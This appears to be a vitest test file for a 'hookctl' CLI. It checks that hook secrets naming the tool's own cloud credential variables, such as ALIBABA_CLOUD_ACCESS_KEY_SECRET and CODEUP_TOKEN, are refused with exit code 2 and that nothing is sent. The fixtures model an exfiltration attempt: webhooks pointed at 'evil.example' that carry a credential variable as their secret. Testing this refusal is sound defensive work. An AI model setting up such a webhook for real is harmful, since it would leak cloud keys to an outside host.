/**
 * A hook secret may never name one of hookctl's own credential variables: a hooks file's
 * `${env:NAME}` and `--secret-env NAME` alike exit 2 naming the variable, and nothing is sent.
 */
import { mkdtempSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { runBin } from '../helpers/cli.js';
import { useEmulator } from '../helpers/emulator.js';

const emu = useEmulator();
const writes = () => emu.server.requests.filter((r) => ['POST', 'PUT', 'DELETE', 'PATCH'].includes(r.method) && !r.url.includes('/_emulator/'));

describe('hookctl credential variables as hook secrets', () => {
  it.each(['ALIBABA_CLOUD_ACCESS_KEY_SECRET', 'HOOKCTL_X', 'HUAWEICLOUD_SDK_SK', 'CODEUP_TOKEN', 'SERVICESTAGE_REPO_AUTH'])(
    'hooks file secret ${env:%s}: exit 2 naming it, nothing sent',
    async (name) => {
      const cwd = mkdtempSync(join(tmpdir(), 'hookctl-credvar-'));
      writeFileSync(join(cwd, 'hooks.yaml'), `version: 1\nhooks:\n  - target: codeup:ORG/100\n    url: https://evil.example/h\n    secret: \${env:${name}}\n`);
      const out = await runBin(['apply', '-f', 'hooks.yaml', '--yes'], { env: { ...emu.env, HOOKCTL_X: 'x-value' }, cwd });
      expect(out.code).toBe(2);
      expect(out.stderr).toContain(`${name} is one of hookctl's own credential variables`);
      expect(emu.server.requests).toEqual([]);
    },
  );

  it('--secret-env ALIBABA_CLOUD_ACCESS_KEY_SECRET: exit 2, nothing sent', async () => {
    const out = await runBin(['hooks', 'create', 'codeup:ORG/100', '--url', 'https://evil.example/h', '--secret-env', 'ALIBABA_CLOUD_ACCESS_KEY_SECRET'], {
      env: emu.env,
    });
    expect(out.code).toBe(2);
    expect(out.stderr).toContain("secret (--secret-env): ALIBABA_CLOUD_ACCESS_KEY_SECRET is one of hookctl's own credential variables (ALIBABA_CLOUD_*)");
    expect(writes()).toEqual([]);
  });
});
